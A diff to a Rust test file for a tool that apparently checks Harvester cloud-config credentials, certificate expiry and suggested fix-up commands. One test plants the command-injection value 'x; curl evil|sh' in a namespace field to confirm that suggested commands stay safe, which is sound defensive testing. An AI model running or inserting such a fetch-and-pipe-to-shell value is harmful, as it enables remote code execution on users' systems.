@@ -89,9 +89,9 @@ fn what_makes_a_cloud_config_anew_is_a_command_that_can_be_typed() {
     assert_eq!(ended[0], ("credential-life", Verdict::Red));
     let mut facts = healthy();
     lasts(facts.config.as_mut().unwrap(), 720, -1);
-    let typed = "harvester-cloud-provider cloud-config generate --format kubeconfig --rotate demo team-a > new-cloud-config`";
+    let typed = "harvester-cloud-provider cloud-config generate --format kubeconfig --rotate demo team-a > new-cloud-config)`";
     let mend = line(&facts, "credential-life").mend.unwrap();
-    assert!(mend.contains(typed), "{mend}");
+    assert!(mend.contains(typed) && mend.contains("`(umask 077; "), "{mend}");
     // somebody else may have written the file
     facts.config.as_mut().unwrap().namespace = "x; curl evil|sh".to_owned();
     let mend = line(&facts, "credential-life").mend.unwrap();
@@ -104,7 +104,7 @@ fn what_makes_a_cloud_config_anew_is_a_command_that_can_be_typed() {
     );
     let mend = line(&facts, "harvester-login").mend.unwrap();
     assert!(
-        mend.contains("cloud-config generate --format kubeconfig ACCOUNT team-a > new-cloud-config`"),
+        mend.contains("cloud-config generate --format kubeconfig ACCOUNT team-a > new-cloud-config)`"),
         "{mend}"
     );
 }
@@ -123,4 +123,48 @@ fn no_next_step_writes_over_the_cloud_config_in_use() {
     let mends: Vec<_> = all.into_iter().flatten().flatten().filter_map(|finding| finding.mend).collect();
     assert!(mends.iter().filter(|mend| mend.contains("> ")).count() >= 4, "{mends:#?}");
     assert!(mends.iter().all(|mend| !mend.contains("> cloud-config")), "{mends:#?}");
+}
+
+/// The token stays that of the account: what is bound there is for another account of its name.
+#[test]
+fn no_next_step_binds_rights_in_a_namespace_that_is_not_the_accounts() {
+    let mut facts = healthy();
+    let config = facts.config.as_mut().unwrap();
+    lasts(config, 720, 600);
+    config.claims.as_mut().unwrap().namespace = "vms".to_owned();
+    deny(&mut facts, "create", "loadbalancers");
+    let mend = line(&facts, "rights-load-balancers").mend.unwrap();
+    assert!(mend.contains("account demo is of namespace vms: set `namespace: vms`"), "{mend}");
+    assert!(!mend.contains("generate"), "{mend}");
+}
+
+#[rstest]
+#[case::over(&["2021-01-01T00:00:00Z"], Some("ended at 2021-01-01T00:00:00Z"))]
+#[case::within_a_week(&["2026-11-25T12:00:00Z"], Some("ends at 2026-11-25T12:00:00Z"))]
+#[case::all_of_them(&["2021-01-01T00:00:00Z", "2026-11-25T12:00:00Z"], Some("ends at 2026-11-25T12:00:00Z"))]
+#[case::beside_one_that_lasts(&["2021-01-01T00:00:00Z", "2036-01-01T00:00:00Z"], None)]
+#[case::of_the_system(&[], None)]
+fn an_authority_that_go_refuses_is_amber_and_red_before_the_go_programs_come_back(
+    #[case] ends: &[&str],
+    #[case] words: Option<&str>,
+) {
+    let mut facts = healthy();
+    facts.config.as_mut().unwrap().authorities = ends.iter().map(|end| Expiry::At(at(end))).collect();
+    let found = line(&facts, "harvester-ca");
+    assert_eq!(found.verdict, if words.is_some() { Verdict::Amber } else { Verdict::Green }, "{found:?}");
+    assert!(words.is_none_or(|words| found.sentence.contains(words)), "{found:?}");
+    let findings = decide(&facts, Occasion::BeforeRollback);
+    let back = findings.iter().find(|finding| finding.id == "way-back-credential").unwrap();
+    assert_eq!(back.verdict, if words.is_some() { Verdict::Red } else { Verdict::Green }, "{back:?}");
+}
+
+/// A cloud-config that is made anew has the same authority, and the server the same certificate.
+#[test]
+fn of_a_server_whose_own_certificate_has_ended_no_new_cloud_config_is_asked_for() {
+    let mut facts = healthy();
+    let why = "invalid peer certificate: certificate expired: not valid after 1609459200";
+    let strange = failed(Trouble::Certificate, why);
+    facts.harvester.answers.values_mut().for_each(|answer| *answer = Err(strange.clone()));
+    let found = line(&facts, "harvester-ca");
+    assert!(found.verdict == Verdict::Red && !found.mend.as_ref().unwrap().contains("generate"), "{found:?}");
 }
